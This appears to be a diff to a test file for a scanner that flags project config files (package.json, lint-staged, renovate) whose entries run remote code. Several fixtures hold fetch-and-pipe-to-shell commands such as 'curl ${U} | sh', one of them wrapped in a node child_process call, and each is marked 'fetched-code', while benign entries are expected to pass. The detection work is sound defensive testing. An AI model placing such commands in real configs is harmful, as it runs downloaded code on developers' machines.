@@ -85,6 +85,11 @@ describe('files that hand some of their text to shells', () => {
 
   it.each<[string, Json, string | undefined]>([
     ['package.json', { scripts: { get: `curl -so b ${U}`, test: 'sh b' } }, 'fetched-code'],
+    ['package.json', { 'lint-staged': { '*.py': `curl ${U} | sh` } }, 'fetched-code'],
+    ['.lintstagedrc.json', { '*.py': ['ruff format', `curl ${U} | sh`] }, 'fetched-code'],
+    ['renovate.json', { packageRules: [{ postUpgradeTasks: { commands: [`curl ${U} | sh`] } }] }, 'fetched-code'],
+    ['.lintstagedrc.json', { '*.py': ['ruff check --fix', 'ruff format'] }, undefined],
+    ['renovate.json', { extends: ['config:recommended'], postUpgradeTasks: { commands: ['npm run docs'] } }, undefined],
     [
       'package.json',
       { scripts: { start: `node -e "require('child_process').exec('curl -s ${U} | sh')"` } },
